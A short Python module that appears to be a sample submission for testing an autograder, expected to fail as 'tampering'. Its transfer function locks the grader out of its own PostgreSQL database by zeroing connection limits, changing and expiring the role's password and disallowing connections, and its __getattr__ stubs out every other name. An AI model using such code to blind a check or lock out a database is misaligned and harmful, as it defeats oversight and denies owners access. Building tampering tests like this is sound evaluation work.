"""Lets nobody connect to its database any more, so that the check cannot look."""

import psycopg2
from psycopg2.extensions import parse_dsn

STATUS = "failed error tampering"
POINTS = 0

def transfer(dsn, *_):
    name = parse_dsn(dsn)["dbname"]
    conn = psycopg2.connect(dsn)
    conn.autocommit = True
    with conn.cursor() as cursor:
        for statement in (
            f"ALTER DATABASE {name} CONNECTION LIMIT 0",
            f"ALTER ROLE {name} CONNECTION LIMIT 0",
            f"ALTER ROLE {name} PASSWORD 'changed'",
            f"ALTER ROLE {name} VALID UNTIL '2000-01-01'",
            f"ALTER DATABASE {name} ALLOW_CONNECTIONS false",
        ):
            try:
                cursor.execute(statement)
            except psycopg2.Error:
                pass


total = transfer


def __getattr__(name):
    return lambda *_: None
